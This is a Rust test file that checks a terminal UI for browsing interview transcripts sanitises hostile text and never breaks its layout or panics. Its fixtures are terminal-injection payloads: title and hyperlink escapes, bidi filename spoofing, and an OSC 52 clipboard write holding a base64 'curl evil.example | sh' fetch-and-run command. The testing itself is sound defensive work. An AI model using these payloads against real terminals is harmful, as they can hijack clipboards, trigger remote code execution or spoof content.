//! Hostile text, in every field the browser shows, rendered through the
//! real crossterm backend into bytes: every escape sequence that comes out
//! must be one the UI itself emits, and no input may break the layout or
//! panic at any size.

use std::sync::LazyLock;

mod support;

use proptest::prelude::*;
use ratatui::backend::{CrosstermBackend, TestBackend};
use ratatui::layout::Rect;
use ratatui::{Terminal, TerminalOptions, Viewport};
use serde_json::{Value, json};
use uj::api::model::{InterviewDetail, StudyDetail};
use uj::app::msg::Window;
use uj::app::state::{Overlay, Pane, State};
use uj::app::{Msg, update};
use uj::present::TextMode;
use uj::ui::view;

/// Inputs meant to escape the screen, confuse the layout or cost too much.
fn hostile() -> Vec<(&'static str, String)> {
    vec![
        ("osc_title", "\u{1b}]0;pwned\u{7}title".into()),
        (
            "osc52_clipboard",
            "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}copied".into(),
        ),
        (
            "osc8_link",
            "\u{1b}]8;;https://evil.example\u{1b}\\click me\u{1b}]8;;\u{1b}\\".into(),
        ),
        ("clear_screen", "\u{1b}[2J\u{1b}[3J\u{1b}[Hgone".into()),
        (
            "csi_colour_and_move",
            "\u{1b}[31;1mred\u{1b}[10;10Hmoved\u{1b}[0m".into(),
        ),
        ("c1_csi", "\u{9b}31m8-bit CSI\u{9d}0;osc\u{9c}".into()),
        ("bel", "ding\u{7}\u{7}".into()),
        ("carriage_return", "I paid $500\rI paid $5".into()),
        ("tabs", "a\tb\t\tc".into()),
        (
            "bidi",
            "invoice\u{202e}fdp.exe\u{2066}isolated\u{2069}\u{202d}".into(),
        ),
        (
            "cjk",
            "購入手続きが分かりにくかったです。送料が最後まで表示されませんでした。".into(),
        ),
        ("emoji_zwj", "👩‍👩‍👧‍👦 🏳️‍🌈 👨🏽‍💻 🇯🇵".into()),
        (
            "combining",
            "e\u{301}\u{302}\u{303}\u{304} Z\u{351}\u{352}\u{353}alg\u{300}o".into(),
        ),
        (
            "rtl",
            "كانت عملية الدفع سهلة جداً ولكن الرسوم غير واضحة".into(),
        ),
        ("empty", String::new()),
        ("newlines", "\n\n\r\n\n".into()),
        ("nul_and_del", "a\u{0}b\u{7f}c".into()),
        ("one_megabyte_word", "A".repeat(1 << 20)),
        ("one_megabyte_text", "wrap me please ".repeat(70_000)),
    ]
}

fn interview(id: &str, text: &str, messages: usize) -> Value {
    json!({
        "id": id, "study_id": "s", "status": text, "quality_score": text, "language": text,
        "duration_secs": 61, "headline": text, "summary": text, "reference_id": text,
        "respondent_email": text, "started_at": text,
        "transcript": (0..messages).map(|n| json!({
            "role": if n % 3 == 2 { text } else if n % 2 == 0 { "agent" } else { "user" },
            "message": text, "translated": text, "time_in_call_secs": n as f64 * 7.5
        })).collect::<Vec<_>>(),
        "question_answers": [
            {"question_index": 0, "question_text": text, "answer_summary": text,
             "answer_excerpt": [{"role": text, "message": text}]}
        ]
    })
}

/// One megabyte in a single message (and the headline and summary), the
/// way it would arrive: not copied into every field.
fn huge(id: &str, text: &str) -> Value {
    json!({
        "id": id, "study_id": "s", "status": "completed", "language": "en", "headline": text, "summary": text,
        "transcript": [
            {"role": "agent", "message": "Tell me everything.", "time_in_call_secs": 0},
            {"role": "user", "message": text, "translated": text, "time_in_call_secs": 4},
        ],
        "question_answers": [{"question_index": 0, "question_text": "Q", "answer_summary": "A",
                              "answer_excerpt": [{"role": "user", "message": text}]}]
    })
}

/// Decoded once: every test and proptest case shares them.
static DETAILS: LazyLock<Vec<InterviewDetail>> = LazyLock::new(build_details);

fn build_details() -> Vec<InterviewDetail> {
    let mut v: Vec<Value> = hostile()
        .iter()
        .map(|(name, text)| {
            if text.len() > 100_000 {
                huge(name, text)
            } else {
                interview(name, text, 12)
            }
        })
        .collect();
    v.push(json!({"id": "nulls_everywhere"}));
    v.push(json!({"id": "explicit_nulls", "status": null, "quality_score": null, "language": null,
                  "duration_secs": null, "headline": null, "summary": null, "transcript": null,
                  "question_answers": [{"question_index": null, "question_text": null, "answer_summary": null, "answer_excerpt": null}]}));
    v.push(json!({"id": "unknown_values", "status": "archived", "quality_score": "legendary", "language": "tlh",
                  "transcript": [{"role": "moderator", "message": "hello", "time_in_call_secs": -5}],
                  "question_answers": [{"question_index": 99, "question_text": "?", "answer_summary": "", "answer_excerpt": []}]}));
    v.into_iter()
        .map(|v| serde_json::from_value(v).expect("decodes"))
        .collect()
}

fn long_transcript(messages: usize) -> InterviewDetail {
    serde_json::from_value(interview(
        &format!("long_{messages}"),
        "Tell me more about the checkout, please.",
        messages,
    ))
    .expect("decodes")
}

/// A state showing `detail` (selected, loaded), focused on `focus`.
fn state_for(
    detail: &InterviewDetail,
    width: u16,
    height: u16,
    mode: TextMode,
    focus: Pane,
) -> State {
    let mut s = State::new(50);
    update(&mut s, Msg::Resize { width, height });
    let study: StudyDetail = serde_json::from_value(
        json!({"id": "s", "name": detail.interview.headline.clone().unwrap_or_default()}),
    )
    .expect("study");
    // Effects are answered by hand below.
    let _ = uj::app::update::init(&mut s, Some("s".into()));
    update(
        &mut s,
        Msg::StudyLoaded {
            id: "s".into(),
            result: Ok((Some(study), None)),
        },
    );
    let generation = s.list.generation;
    update(
        &mut s,
        Msg::WindowLoaded {
            generation,
            result: Ok(Window {
                start: 0,
                rows: vec![detail.interview.clone()],
                total: 1,
                followed: None,
                ..Window::default()
            }),
        },
    );
    update(
        &mut s,
        Msg::DetailLoaded {
            id: detail.interview.id.clone(),
            result: Ok(detail.clone()),
        },
    );
    s.transcript.mode = mode;
    s.focus = focus;
    update(&mut s, Msg::Tick);
    s
}

/// Every escape sequence in `bytes` must be a CSI the UI emits (cursor
/// moves, SGR styles, cursor show/hide, clears); nothing else may reach the
/// terminal: no OSC, no BEL, no other C0 but CR/LF, no C1.
fn check_bytes(bytes: &[u8]) -> Result<(), String> {
    let text = std::str::from_utf8(bytes).map_err(|e| format!("not UTF-8: {e}"))?;
    let mut chars = text.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        match c {
            '\u{1b}' => {
                if chars.next().map(|(_, c)| c) != Some('[') {
                    return Err(format!(
                        "an escape that is not CSI at byte {at}: {:?}",
                        &text[at..(at + 12).min(text.len())]
                    ));
                }
                let mut params = String::new();
                let final_byte = loop {
                    match chars.next() {
                        Some((_, p)) if p.is_ascii_digit() || p == ';' || p == '?' || p == ':' => {
                            params.push(p)
                        }
                        Some((_, f)) => break f,
                        None => return Err("a CSI cut short".into()),
                    }
                };
                let allowed = matches!(
                    final_byte,
                    'H' | 'm' | 'J' | 'K' | 'A' | 'B' | 'C' | 'D' | 'G'
                ) || (matches!(final_byte, 'h' | 'l') && params == "?25");
                if !allowed {
                    return Err(format!(
                        "an escape the UI never sends: ESC [{params}{final_byte}"
                    ));
                }
            }
            '\r' | '\n' => {}
            c if c.is_control() => return Err(format!("control character {c:?} at byte {at}")),
            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => {
                return Err(format!("bidi control {c:?} at byte {at}"));
            }
            _ => {}
        }
    }
    Ok(())
}

/// One full frame as the bytes crossterm would send to the terminal.
fn render_bytes(state: &State) -> Vec<u8> {
    let area = Rect::new(0, 0, state.width, state.height);
    let out = support::Capture::default();
    let mut terminal = Terminal::with_options(
        CrosstermBackend::new(out.clone()),
        TerminalOptions {
            viewport: Viewport::Fixed(area),
        },
    )
    .expect("terminal");
    terminal.draw(|f| view(f, state)).expect("draws");
    drop(terminal);
    out.bytes()
}

/// Every visible pane's frame must be whole: corners and side borders in
/// every row, whatever the content.
fn check_layout(state: &State) -> Result<(), String> {
    let mut terminal =
        Terminal::new(TestBackend::new(state.width, state.height)).expect("terminal");
    terminal.draw(|f| view(f, state)).expect("draws");
    let buf = terminal.backend().buffer().clone();
    let areas = state.areas();
    for pane in Pane::ALL {
        let Some(r) = areas.pane(pane) else { continue };
        if r.width < 2 || r.height < 2 {
            continue;
        }
        let (left, right) = (r.x, r.x + r.width - 1);
        for y in r.y + 1..r.y + r.height - 1 {
            for x in [left, right] {
                let sym = buf[(x, y)].symbol();
                if !matches!(sym, "│" | "┃") {
                    return Err(format!("{pane:?} border broken at ({x},{y}): {sym:?}"));
                }
            }
        }
        for (x, y) in [
            (left, r.y),
            (right, r.y),
            (left, r.y + r.height - 1),
            (right, r.y + r.height - 1),
        ] {
            let sym = buf[(x, y)].symbol();
            if !matches!(sym, "┌" | "┐" | "└" | "┘" | "┏" | "┓" | "┗" | "┛") {
                return Err(format!("{pane:?} corner broken at ({x},{y}): {sym:?}"));
            }
        }
    }
    Ok(())
}

#[test]
fn every_hostile_input_renders_safely_in_every_pane_and_mode() {
    let mut tried = 0;
    for detail in DETAILS.iter() {
        for (w, h) in [(160, 45), (100, 30), (60, 20)] {
            for mode in [TextMode::Original, TextMode::English, TextMode::Both] {
                for focus in Pane::ALL {
                    let state = state_for(detail, w, h, mode, focus);
                    let bytes = render_bytes(&state);
                    if let Err(e) = check_bytes(&bytes) {
                        panic!("{} at {w}×{h} {mode:?} {focus:?}: {e}", detail.interview.id);
                    }
                    if let Err(e) = check_layout(&state) {
                        panic!("{} at {w}×{h} {mode:?} {focus:?}: {e}", detail.interview.id);
                    }
                    tried += 1;
                }
            }
        }
    }
    assert!(tried >= 22 * 27, "{tried}");
}

/// ratatui itself skips zero-width control characters, so safe bytes alone
/// do not show the sanitiser at work: the user must *see* what was sent,
/// as control pictures, not have it vanish. Checked on the transcript's
/// headline line, which nothing but the sanitiser touches.
#[test]
fn hostile_text_is_shown_not_silently_dropped() {
    let expected = [
        ("osc_title", "␛]0;pwned␇title"),
        ("clear_screen", "␛[2J␛[3J␛[Hgone"),
        ("csi_colour_and_move", "␛[31;1mred␛[10;10Hmoved␛[0m"),
        ("c1_csi", "\u{FFFD}31m8-bit CSI\u{FFFD}0;osc\u{FFFD}"),
        ("bel", "ding␇␇"),
        ("carriage_return", "I paid $500 I paid $5"),
        ("tabs", "a    b        c"),
        ("bidi", "invoicefdp.exeisolated"),
        ("nul_and_del", "a␀b␡c"),
    ];
    for (name, shown) in expected {
        let detail = DETAILS
            .iter()
            .find(|d| d.interview.id == name)
            .expect("detail");
        let state = state_for(detail, 160, 45, TextMode::Original, Pane::List);
        let mut terminal = Terminal::new(TestBackend::new(160, 45)).expect("terminal");
        terminal.draw(|f| view(f, &state)).expect("draws");
        let buf = terminal.backend().buffer();
        let pane = state.areas().transcript.expect("transcript pane");
        let headline: String = (pane.x + 1..pane.x + pane.width - 1)
            .map(|x| buf[(x, pane.y + 1)].symbol())
            .collect();
        assert_eq!(headline.trim_end(), shown, "{name}");
    }
}

#[test]
fn hostile_text_in_overlays_and_the_picker() {
    for (name, text) in hostile() {
        let detail = DETAILS
            .iter()
            .find(|d| d.interview.id == name)
            .expect("detail");
        let mut state = state_for(detail, 120, 40, TextMode::Original, Pane::List);
        state.overlay = Overlay::Picker(uj::app::state::StudyPicker {
            list: uj::app::state::Picker {
                items: uj::app::state::Loadable::Ready(vec![
                    serde_json::from_value(
                        json!({"id": text, "name": text, "supported_languages": [text]}),
                    )
                    .expect("study"),
                ]),
                selected: 0,
            },
            counts: Default::default(),
            offline: true,
        });
        check_bytes(&render_bytes(&state)).unwrap_or_else(|e| panic!("picker {name}: {e}"));
        state.overlay = Overlay::Filter(uj::app::state::FilterForm {
            reference: uj::app::line_edit::LineEdit::new(text.clone()),
            ..Default::default()
        });
        check_bytes(&render_bytes(&state)).unwrap_or_else(|e| panic!("filter {name}: {e}"));
        state.overlay = Overlay::None;
        state.search = Some(uj::app::state::Search {
            pane: Pane::List,
            query: uj::app::line_edit::LineEdit::new(text.clone()),
            editing: true,
            ..Default::default()
        });
        check_bytes(&render_bytes(&state)).unwrap_or_else(|e| panic!("search {name}: {e}"));
        state.notice = Some(uj::app::state::Notice {
            level: uj::app::state::Level::Error,
            text: text.clone(),
        });
        state.search = None;
        check_bytes(&render_bytes(&state)).unwrap_or_else(|e| panic!("notice {name}: {e}"));
    }
}

#[test]
fn long_transcripts_render_and_scroll() {
    for n in [5_000, 50_000] {
        let detail = long_transcript(n);
        let mut state = state_for(&detail, 200, 50, TextMode::Both, Pane::Transcript);
        let lines = state
            .transcript
            .wrapped
            .as_ref()
            .expect("wrapped")
            .lines
            .len();
        assert!(lines > n, "{lines}");
        update(
            &mut state,
            Msg::Key(crossterm::event::KeyEvent::from(
                crossterm::event::KeyCode::Char('G'),
            )),
        );
        assert_eq!(state.transcript.scroll, lines - state.transcript_viewport());
        check_bytes(&render_bytes(&state)).expect("safe");
        check_layout(&state).expect("intact");
    }
}

#[test]
fn the_checker_catches_what_it_must() {
    assert!(check_bytes(b"\x1b[1;1Hok\x1b[0m").is_ok());
    assert!(check_bytes(b"\x1b]0;title\x07").is_err());
    assert!(check_bytes(b"ding\x07").is_err());
    assert!(check_bytes("\u{9b}31m".as_bytes()).is_err());
    assert!(check_bytes(b"\x1b[2;31r").is_err());
    assert!(check_bytes("a\u{202e}b".as_bytes()).is_err());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn no_size_panics_and_layouts_hold(
        width in 0u16..=300,
        height in 0u16..=100,
        which in 0usize..22,
        mode in prop_oneof![Just(TextMode::Original), Just(TextMode::English), Just(TextMode::Both)],
        focus in prop_oneof![Just(Pane::List), Just(Pane::Transcript), Just(Pane::Answers)],
    ) {
        let detail = &DETAILS[which % DETAILS.len()];
        let state = state_for(detail, width, height, mode, focus);
        let mut terminal = Terminal::new(TestBackend::new(width.max(1), height.max(1))).expect("terminal");
        terminal.draw(|f| view(f, &state)).expect("draws");
        if width > 0 && height > 0 {
            prop_assert!(check_layout(&state).is_ok(), "{:?}", check_layout(&state));
            prop_assert!(check_bytes(&render_bytes(&state)).is_ok());
        }
    }
}

/// Arguments that are not UTF-8 are a usage error on one line, never a
/// panic with a backtrace.
#[cfg(unix)]
#[test]
fn arguments_that_are_not_utf8_are_a_usage_error() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let bad = OsStr::from_bytes(b"\xff\xfe");
    let home = tempfile::tempdir().expect("tmp");
    for args in [
        vec![
            OsStr::new("search"),
            OsStr::new("--study"),
            OsStr::new("s1"),
            bad,
        ],
        vec![OsStr::new("--offline"), bad],
        vec![OsStr::new("show"), bad],
    ] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_uj"))
            .args(&args)
            .env_clear()
            .env("HOME", home.path())
            .env("RUST_BACKTRACE", "1")
            .output()
            .expect("runs");
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(
            !err.contains("panicked") && !err.contains("backtrace"),
            "{err}"
        );
        assert_eq!(err.lines().count(), 1, "{err}");
    }
}
